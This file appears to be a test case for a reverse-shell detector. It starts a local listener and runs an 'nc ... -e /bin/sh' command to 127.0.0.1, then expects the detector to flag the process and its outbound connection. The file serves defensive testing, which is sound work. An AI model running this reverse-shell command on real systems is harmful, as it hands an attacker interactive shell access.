# R03: nc becomes a shell
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4403

#: prepare
. lib/peers.sh
peer 4403
#: act
. lib/peers.sh
act
nc 127.0.0.1 4403 -e /bin/sh < /dev/null > /dev/null 2>&1 & fact shell $!
await 'at $shell 0 socket:* && at $shell ../exe /usr/bin/dash'
same $shell 0 $shell 1
